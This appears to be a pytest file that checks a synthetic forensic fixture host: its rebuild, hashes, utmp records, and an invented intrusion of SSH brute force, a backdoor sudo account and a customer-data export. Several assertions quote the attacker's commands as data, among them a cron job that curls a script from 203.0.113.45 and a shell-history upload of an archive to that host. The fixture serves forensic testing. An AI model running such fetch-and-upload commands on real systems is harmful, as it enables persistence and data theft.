"""The synthetic host under fixtures/hosts is rebuildable byte for byte and agrees with its truth.

Nothing here trusts file mtimes: git does not keep them, so a checkout has its own.
"""

from __future__ import annotations

import gzip
import hashlib
import ipaddress
import json
import re
import struct
import subprocess
import sys
import zlib
from datetime import UTC, datetime
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parent.parent
HOSTS = ROOT / "fixtures" / "hosts"
WEB01 = HOSTS / "web01"
TRUTH = HOSTS / "web01.truth.json"
UTMP_SIZE = 384
AUTH_LOGS = ["var/log/auth.log.2.gz", "var/log/auth.log.1", "var/log/auth.log"]
ATTACKER = "203.0.113.45"


def _files(base: Path) -> dict[str, bytes]:
    return {
        p.relative_to(base).as_posix(): p.read_bytes()
        for p in sorted(base.rglob("*"))
        if p.is_file()
    }


def _text(rel: str) -> str:
    data = (WEB01 / rel).read_bytes()
    return (gzip.decompress(data) if rel.endswith(".gz") else data).decode()


def _utmp(rel: str) -> list[tuple]:
    data = (WEB01 / rel).read_bytes()
    return [
        struct.unpack_from("<ii32s4s32s256shhiii16s20s", data, off)
        for off in range(0, len(data), UTMP_SIZE)
    ]


@pytest.fixture(scope="module")
def truth() -> dict:
    return json.loads(TRUTH.read_text())


@pytest.fixture(scope="module")
def rebuilt(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("hosts")
    subprocess.run(
        [sys.executable, str(ROOT / "fixtures" / "build_hosts.py"), "--out", str(out)],
        check=True,
        capture_output=True,
    )
    return out


def test_rebuild_is_byte_identical_to_the_committed_tree(rebuilt: Path) -> None:
    committed, fresh = _files(HOSTS), _files(rebuilt)
    assert sorted(fresh) == sorted(committed)
    # zlib-ng (some distributions' zlib) deflates differently; its gz members are compared
    # by content there, everything else still byte for byte.
    zlib_ng = "ng" in zlib.ZLIB_RUNTIME_VERSION
    for rel, data in committed.items():
        if zlib_ng and rel.endswith(".gz"):
            assert gzip.decompress(fresh[rel]) == gzip.decompress(data), rel
        else:
            assert hashlib.sha256(fresh[rel]).hexdigest() == hashlib.sha256(data).hexdigest(), rel


def test_truth_lists_every_file_with_its_hash(truth: dict) -> None:
    on_disk = _files(WEB01)
    assert sorted(truth["files"]) == sorted(on_disk)
    for rel, data in on_disk.items():
        assert truth["files"][rel]["sha256"] == hashlib.sha256(data).hexdigest(), rel
        assert truth["files"][rel]["bytes"] == len(data), rel


def test_gz_members_decompress_and_carry_no_name_or_mtime() -> None:
    members = sorted(WEB01.rglob("*.gz"))
    assert len(members) == 2
    for path in members:
        raw = path.read_bytes()
        assert raw[:2] == b"\x1f\x8b"
        assert raw[3] & 0x08 == 0, f"{path.name} stores a file name"
        assert raw[4:8] == b"\0\0\0\0", f"{path.name} stores an mtime"
        assert gzip.decompress(raw).endswith(b"\n")


@pytest.mark.parametrize("rel", ["var/log/wtmp", "var/log/btmp"])
def test_utmp_files_are_whole_384_byte_records(rel: str) -> None:
    size = (WEB01 / rel).stat().st_size
    assert size > 0
    assert size % UTMP_SIZE == 0


def test_wtmp_holds_the_boot_and_the_attacker_session(truth: dict) -> None:
    records = _utmp("var/log/wtmp")
    assert len(records) == truth["totals"]["wtmp_records"]
    boots = [r for r in records if r[0] == 2]
    assert [r[4].rstrip(b"\0") for r in boots] == [b"reboot"]
    logins = [
        (r[4].rstrip(b"\0").decode(), r[5].rstrip(b"\0").decode(), r[9])
        for r in records
        if r[0] == 7
    ]
    attacker_login = int(datetime(2026, 3, 10, 2, 16, 30, tzinfo=UTC).timestamp())
    assert ("deploy", ATTACKER, attacker_login) in logins
    times = [r[9] for r in records]
    assert times == sorted(times)


def test_btmp_counts_every_failed_password_and_invalid_user(truth: dict) -> None:
    sshd = [line for rel in AUTH_LOGS for line in _text(rel).splitlines() if " sshd[" in line]
    failed = sum("Failed password" in line for line in sshd)
    invalid = sum("Invalid user" in line for line in sshd)
    records = _utmp("var/log/btmp")
    assert all(r[0] == 6 and r[2].rstrip(b"\0") == b"ssh:notty" for r in records)
    assert len(records) == failed + invalid == truth["totals"]["btmp_records"]
    assert failed == truth["totals"]["failed_password_lines"]
    assert invalid == truth["totals"]["invalid_user_lines"]


def test_sudo_grep_for_failed_password_is_not_an_sshd_failure() -> None:
    # a parser that counts the phrase anywhere gets one too many: alice grepped for it
    everywhere = sum(
        "Failed password" in line for rel in AUTH_LOGS for line in _text(rel).splitlines()
    )
    sshd_only = sum(
        "Failed password" in line and " sshd[" in line
        for rel in AUTH_LOGS
        for line in _text(rel).splitlines()
    )
    assert everywhere == sshd_only + 1


def test_per_file_line_counts_match_a_recount(truth: dict) -> None:
    for rel, counts in truth["counts"].items():
        if rel in ("var/log/wtmp", "var/log/btmp"):
            assert counts["records"] == (WEB01 / rel).stat().st_size // UTMP_SIZE
            continue
        assert counts["lines"] == len(_text(rel).splitlines()), rel


def test_brute_force_story_is_in_the_auth_log(truth: dict) -> None:
    text = _text("var/log/auth.log")
    bf = truth["brute_force"]
    assert bf["first_success_line"] in text
    first = next(line for line in text.splitlines() if ATTACKER in line)
    assert first.startswith("Mar 10 02:00:07 web01 sshd[")
    assert bf["first_failed"] == "2026-03-10T02:00:07Z"
    assert "3 incorrect password attempts" in text
    assert "new user: name=backup2, UID=1002" in text
    assert "add 'backup2' to group 'sudo'" in text


def test_customer_records_match_truth_and_export_bytes(truth: dict) -> None:
    customers = (WEB01 / "srv/data/customers.csv").read_bytes()
    rows = customers.decode().splitlines()
    assert rows[0] == "id,name,email,phone,city,signup_date"
    assert len(rows) - 1 == truth["data_assets"][0]["records"] == 500
    assert len((WEB01 / "srv/data/orders.csv").read_text().splitlines()) - 1 == 1000
    export = next(
        line for line in _text("var/log/nginx/access.log.1").splitlines() if "/export?all=1" in line
    )
    assert export.startswith(ATTACKER)
    assert f'" 200 {len(customers)} ' in export


def test_persistence_files_match_truth(truth: dict) -> None:
    cron = truth["persistence"][2]
    assert (WEB01 / "var/spool/cron/crontabs/deploy").read_text().splitlines()[-1] == cron["entry"]
    syslog = _text("var/log/syslog")
    assert syslog.count("(deploy) CMD (curl -s http://203.0.113.45/x.sh") == cron["runs_logged"]
    assert "attacker@kali" in (WEB01 / "home/deploy/.ssh/authorized_keys").read_text()
    history = (WEB01 / "home/deploy/.bash_history").read_text().splitlines()
    assert "curl -T /tmp/.c.tgz http://203.0.113.45/up" in history
    assert all(line.startswith("#") and line[1:].isdigit() for line in history[0::2])


def test_data_uses_only_documentation_addresses() -> None:
    allowed = [
        ipaddress.ip_network(n)
        for n in ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24", "127.0.0.0/8")
    ]
    for rel in ("var/log/auth.log", "var/log/nginx/access.log.1", "var/log/nginx/access.log"):
        for ip in set(re.findall(r"\b(?:\d{1,3}\.){3}\d{1,3}\b", _text(rel))):
            addr = ipaddress.ip_address(ip)
            assert any(addr in n for n in allowed), f"{ip} in {rel}"
